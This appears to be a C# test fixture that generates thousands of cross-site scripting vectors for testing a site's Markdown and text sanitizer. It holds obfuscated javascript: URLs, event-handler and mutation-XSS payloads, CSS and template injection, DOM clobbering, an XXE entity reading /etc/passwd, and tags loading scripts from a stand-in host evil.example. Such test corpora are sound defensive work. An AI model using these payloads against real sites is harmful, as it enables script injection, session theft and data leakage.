namespace Community.Tests.Attacks;

/// <summary>Texts that try to become script, markup or a request to another host; combined from parts into thousands.</summary>
public static class Vectors
{
    /// <summary>The call that must never run: the page's hook would report it.</summary>
    public const string Run = "xss(1)";

    static readonly string[] scripts =
    [
        "javascript:" + Run,
        "JaVaScRiPt:" + Run,
        "java\tscript:" + Run,
        "java\nscript:" + Run,
        "&#106;avascript:" + Run,
        "&#x6A;avascript&colon;" + Run,
        " javascript:" + Run,
        "\u0001javascript:" + Run,
        "javascript&#58;" + Run,
        "vbscript:" + Run,
        "data:text/html,<script>" + Run + "</script>",
        "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
        "data:image/svg+xml,<svg onload=" + Run + ">",
        "//evil.example/x",
        "\\\\evil.example/x",
        "/\\evil.example/x",
        "https://evil.example/x",
        "blob:x",
        "file:///etc/passwd",
        "feed:javascript:" + Run,
        "view-source:javascript:" + Run,
    ];

    static readonly string[] tags =
    [
        "<script>" + Run + "</script>",
        "<ScRiPt >" + Run + "</sCrIpT>",
        "<script/x>" + Run + "</script>",
        "<scr<script>ipt>" + Run + "</scr</script>ipt>",
        "<script src=//evil.example/x.js></script>",
        "<img src=x onerror=" + Run + ">",
        "<img src=//evil.example/x>",
        "<svg onload=" + Run + ">",
        "<svg><script>" + Run + "</script></svg>",
        "<svg/onload=" + Run + "//",
        "<math><mtext><table><mglyph><style><img src=x onerror=" + Run + ">",
        "<iframe srcdoc='<script>" + Run + "</script>'></iframe>",
        "<iframe src=javascript:" + Run + "></iframe>",
        "<object data=javascript:" + Run + ">",
        "<embed src=//evil.example/x>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<form action=//evil.example/><input name=a autofocus onfocus=" + Run + ">",
        "<details open ontoggle=" + Run + ">",
        "<body onload=" + Run + ">",
        "<video><source onerror=" + Run + ">",
        "<audio src=x onerror=" + Run + ">",
        "<marquee onstart=" + Run + ">",
        "<a href=javascript:" + Run + ">x</a>",
        "<template><script>" + Run + "</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=" + Run + ">\">",
        "<!--><img src=x onerror=" + Run + ">-->",
        "<![CDATA[><img src=x onerror=" + Run + ">]]>",
        "<?xml version=1?><x xmlns=http://www.w3.org/1999/xhtml onload=" + Run + ">",
        "&lt;script&gt;" + Run + "&lt;/script&gt;",
        "&#60;img src=x onerror=" + Run + "&#62;",
        "+ADw-script+AD4-" + Run + "+ADw-/script+AD4-",
        "\u00bcscript\u00be" + Run + "\u00bc/script\u00be",
        "\uff1cscript\uff1e" + Run,
    ];

    /// <summary>
    /// Ways to break out of a value's context: text, quoted and unquoted attributes, title, textarea, style, script, comment, URL.
    /// </summary>
    static readonly string[] exits =
    [
        "",
        "\"",
        "'",
        "\">",
        "'>",
        "`>",
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "-->",
        "]]>",
        "\\\"",
        "&quot;>",
        "\u2028",
        "}}",
        ");",
        "</option></select>",
        "\" autofocus onfocus=" + Run + " x=\"",
        "' onmouseover=" + Run + " x='",
    ];

    /// <summary>Values for names, titles and everything else that is not Markdown: every exit before every tag.</summary>
    public static IEnumerable<string> Plain => from exit in exits from tag in tags select exit + tag;

    static readonly string[] links =
    [
        "[x]({0})",
        "[x](<{0}>)",
        "[x]({0} \"t\" onclick=xss(1))",
        "![x]({0})",
        "![]({0})",
        "<{0}>",
        "{0}",
        "[x]\n\n[x]: {0}",
        "[x]: {0} \"</a><img src=x onerror=xss(1)>\"\n\n[x]",
        "[![x]({0})]({0})",
        "[<b onclick=xss(1)>]({0})",
        "[x]({0}\n)",
        "[x]( {0})",
        "# [x]({0})",
        "> [x]({0})",
        "- [x]({0})",
        "|a|\n|-|\n|[x]({0})|",
        "~~[x]({0})~~",
        "**[x]({0})**",
        "[x](&#x{0})",
    ];

    static readonly string[] blocks =
    [
        "{0}",
        "`{0}`",
        "```{0}\n{0}\n```",
        "    {0}",
        "> {0}",
        "- {0}",
        "1. {0}",
        "# {0}",
        "*{0}*",
        "|{0}|\n|-|\n|{0}|",
        "[{0}](/x)",
        "[x](/x '{0}')",
        "[x](/{0})",
        "![{0}](/x.png)",
        "<{0}>",
        "~~{0}~~",
        "[^1]: {0}",
        "{{{0}}}",
        "a\n===\n{0}",
        "{0}\n---",
        "\\{0}",
        "[x]: /x '{0}'\n\n[x]",
    ];

    /// <summary>Markdown: every address in every kind of link, every tag in every kind of block.</summary>
    public static IEnumerable<string> Markdown =>
        (from link in links from script in scripts select link.Replace("{0}", script))
        .Concat(from block in blocks from tag in tags.Concat(exits.Skip(1).Select(e => e + tags[5])) select block.Replace("{0}", tag));

    /// <summary>Elements of HTML, SVG and MathML; the last is none, and takes events all the same.</summary>
    static readonly string[] elements =
    [
        .. """
        a abbr acronym address animate animatemotion animatetransform applet area article aside audio b base basefont bdi bdo bgsound big
        blink blockquote body br button canvas caption center cite code col colgroup command content data datalist dd del details dfn
        dialog dir div dl dt element em embed fieldset figcaption figure font footer foreignobject form frame frameset h1 head header
        hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math menu
        menuitem meta meter mglyph mi mn mo ms mtext multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p
        param picture plaintext pre progress q rb rp rt rtc ruby s samp script section select selectedcontent set shadow slot small source
        spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul use
        var video wbr xmp xss
        """.Split([' ', '\n'], StringSplitOptions.RemoveEmptyEntries),
    ];

    /// <summary>What an element does by itself, and what waits for a hand.</summary>
    static readonly string[] events =
    [
        .. """
        onload onerror onfocus onblur onfocusin onfocusout ontoggle onbeforetoggle onanimationstart onanimationend onanimationcancel
        ontransitionrun ontransitionend onbegin onend onrepeat onstart onfinish onbounce onloadstart onloadeddata oncanplay onplay
        onplaying onprogress ontimeupdate onscroll onscrollend onscrollsnapchange onresize onhashchange onpageshow onpopstate onmessage
        onunhandledrejection onbeforeprint oncontentvisibilityautostatechange onsecuritypolicyviolation onclick onmouseover onmouseenter
        onpointerrawupdate onpointerover onwheel ondrag oncopy onpaste onbeforeinput oninput oninvalid onsubmit onreset onsearch onselect
        oncut onkeydown onauxclick oncontextmenu ontouchstart onshow onwebkitanimationstart onwebkitplaybacktargetavailabilitychanged
        """.Split([' ', '\n'], StringSplitOptions.RemoveEmptyEntries),
    ];

    /// <summary>Ways to write an element with an event and a call: {0}, {1} and {2}.</summary>
    static readonly string[] writings =
    [
        "<{0} {1}={2}>",
        "<{0} {1}={2} autofocus tabindex=1 contenteditable style=display:block;animation:x src=x href=x>x</{0}>",
        "<{0}/{1}={2}/src=x>",
        "<{0}\n{1}\n=\n'{2}'\nsrc=x\n>",
        "<{0}\t{1}\t=\"{2}\"src=x>",
        "<{0}\f{1}={2}//",
        "<{0} x='>' {1}={2}>",
        "<{0} {1}=`{2}` src=`x`>",
        "<{0} {1}=&#120;&#x73;s&lpar;1&rpar; src=x>",
        "<{0} {1}=\\u0078ss(1) src=x>",
        "<{0}\u0001{1}={2}>",
        "<{0} \0{1}={2}>",
        "<{0}<{0} {1}={2}>",
        "&lt;{0} {1}={2}&gt;",
        "\\<{0} {1}={2}\\>",
        "**<{0} {1}={2}>**",
        "<svg><{0} {1}={2} attributeName=x dur=1s></svg>",
        "<math><{0} {1}={2}></math>",
        "<{0} {1}={2}\n\n>",
        "<{0}\u00a0{1}={2}><\u2028{0} {1}={2}>",
    ];

    /// <summary>Every element with every event, the writings in turns.</summary>
    public static IEnumerable<string> Events =>
        from e in elements.Index()
        from o in events.Index()
        where (e.Index + o.Index) % 3 == 0
        select string.Format(System.Globalization.CultureInfo.InvariantCulture, writings[(e.Index * 7 + o.Index) % writings.Length],
            e.Item, o.Item, Run);

    /// <summary>What a browser turns into something else when it reads it a second time.</summary>
    static readonly string[] mutations =
    [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=xss(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=x onerror=xss(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss(1)>",
        "<svg><style>&lt;img src=x onerror=xss(1)&gt;</style></svg>",
        "<noscript><style></noscript><img src=x onerror=xss(1)></style>",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=xss(1)></style></annotation-xml></math>",
        "<svg><desc><![CDATA[</desc><script>xss(1)</script>]]></desc></svg>",
        "<table><td><svg><title><style></title><img src=x onerror=xss(1)></style>",
        "<select><template><style></select><img src=x onerror=xss(1)></style></template>",
        "<xmp><p title=\"</xmp><img src=x onerror=xss(1)>\"></xmp>",
        "<textarea><p title=\"</textarea><img src=x onerror=xss(1)>\">",
        "<iframe><p title=\"</iframe><img src=x onerror=xss(1)>\">",
        "<listing>&lt;img src=x onerror=xss(1)&gt;</listing>",
        "<img alt=\"``onerror=xss(1)\" src=x>",
        "<div style=\"font-family:'foo&#92;27&#59;color:red;x:expression(xss(1))'\">",
        "<p style=\"background:url(//evil.example/x)\">x</p>",
        "<style>:root{background:url(javascript:xss(1))}</style>",
        "<div style=\"-moz-binding:url(//evil.example/x.xml#x);behavior:url(x.htc)\">",
        "<a style=\"position:fixed;inset:0\" href=//evil.example/>x</a>",
        "{{constructor.constructor('xss(1)')()}}",
        "${xss(1)} #{xss(1)} <%= xss(1) %> {% raw %} [[${xss(1)}]] @{xss(1)} @(xss(1))",
        "<a id=xss><a id=xss name=ran href=x>clobbered</a>",
        "<img name=ran><form id=document><input name=cookie></form>",
        "<svg><a xlink:href=javascript:xss(1)><text y=9>x</text></a></svg>",
        "<svg><use href=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9eHNzKDEpPg==#x />",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:xss(1) /><a id=x><text>x</text></a>",
        "<math href=javascript:xss(1)>x</math>",
        "<math><maction actiontype=statusline#http://evil.example xlink:href=javascript:xss(1)>x</maction></math>",
        "<object type=text/html data=data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKDEpPC9zY3JpcHQ+></object>",
        "<a href=x ping=//evil.example/>x</a><a href=//evil.example/ target=_blank>x</a>",
        "<input type=image src=x onerror=xss(1)><button formaction=javascript:xss(1)>x</button>",
        "<link rel=preload as=image href=//evil.example/x><link rel=dns-prefetch href=//evil.example>",
        "<img srcset='//evil.example/x 2x'><video poster=//evil.example/x><table background=//evil.example/x>",
        "<script type=module>import '//evil.example/x.js'</script><script type=speculationrules>{}</script>",
        "<portal src=//evil.example/><fencedframe src=//evil.example/></fencedframe>",
        "<x is=onload><x contenteditable onbeforeinput=xss(1)>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        "<?xml-stylesheet href=javascript:xss(1)?><?php xss(1) ?>",
        "\ufeff<script>xss(1)</script>\u202e<img src=x onerror=xss(1)>\u2066",
        "<\u0000script>xss(1)</script><scr\u00adipt>xss(1)</scr\u00adipt>",
    ];

    /// <summary>Where a text may stand in Markdown, one in another.</summary>
    static readonly string[] places =
    [
        "{0}",
        "> > > {0}",
        "> - 1. > {0}",
        "```html\n{0}\n```",
        "~~~{0}\n{0}\n~~~",
        "||{0}||",
        "||a|| **||{0}||** [||{0}||](/x)",
        "|a|{0}|\n|:-:|-:|\n|{0}|`{0}`|",
        "@Anna {0} @{0}",
        "[@{0}](/members/{0})",
        "![{0}](https://example.com/{0} \"{0}\")",
        "[{0}](</{0}> '{0}')",
        "[![{0}](/files/x)]({0})",
        "# {0} #\n## [{0}](/x \"{0}\")",
        "> Anna wrote:\n> ||{0}||\n\n{0}",
        "`` {0} `` ` {0}",
        ":{0}: ***{0}*** ~~{0}~~ __{0}__",
    ];

    static readonly string[] tricks =
    [
        "javascript:xss(1)", "vbscript:xss(1)", "data:text/html,<script>xss(1)</script>", "javascript://x/%0axss(1)",
        "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+xss(1)//'>",
    ];

    /// <summary>A scheme as it may be hidden: signs in it, entities, case, percent, full-width and look-alike letters.</summary>
    static IEnumerable<string> Hidden(string address)
    {
        var (scheme, rest) = (address[..address.IndexOf(':')], address[(address.IndexOf(':') + 1)..]);
        foreach (
            var sign in new[] { "\t", "\n", "\r", "\0", "\u0001", "\u00ad", "\u200b", "\ufeff", "&Tab;", "&NewLine;", "&#9;", "&#x0A;" }
        )
        {
            yield return scheme[..3] + sign + scheme[3..] + ":" + rest;
            yield return sign + address;
            yield return scheme + sign + ":" + rest;
        }
        yield return string.Concat(scheme.Select(c => $"&#{(int)c};")) + ":" + rest;
        yield return string.Concat(scheme.Select(c => $"&#x{(int)c:X6}")) + "&colon;" + rest;
        yield return string.Concat(scheme.Select(c => $"%{(int)c:x2}")) + ":" + rest;
        yield return string.Concat(scheme.Select((c, i) => i % 2 == 0 ? char.ToUpperInvariant(c) : c)) + ":" + rest;
        yield return string.Concat(scheme.Select(c => (char)(c + 0xFEE0))) + "：" + rest;
        yield return scheme.Replace('s', '\u017f').Replace('i', '\u0131') + ":" + rest;
        yield return "\\" + string.Join('\\', scheme.ToCharArray()) + "\\:" + rest;
        yield return "https://example.com\"onmouseover=xss(1) x=\"";
        yield return "http://" + address;
        yield return "mailto:a@example.com?body=" + address + "\"onclick=xss(1)";
        yield return "/" + address;
        yield return "/x\"onmouseover=xss(1)//";
        yield return "./" + address;
        yield return "?" + address;
        yield return "#" + address;
        yield return "https:" + address;
        yield return "https:\\\\evil.example/" + address;
    }

    /// <summary>Hidden addresses in links of all kinds, and texts that change when they are read twice in all places.</summary>
    public static IEnumerable<string> Tricks =>
        (from trick in tricks from hidden in Hidden(trick) select hidden)
            .SelectMany((hidden, i) => links.Where((_, j) => (i + j) % 3 == 0).Select(link => link.Replace("{0}", hidden)))
            .Concat(from text in mutations from place in places select place.Replace("{0}", text));

    /// <summary>All of them.</summary>
    public static IEnumerable<string> All => Markdown.Concat(Plain).Concat(Events).Concat(Tricks);
}
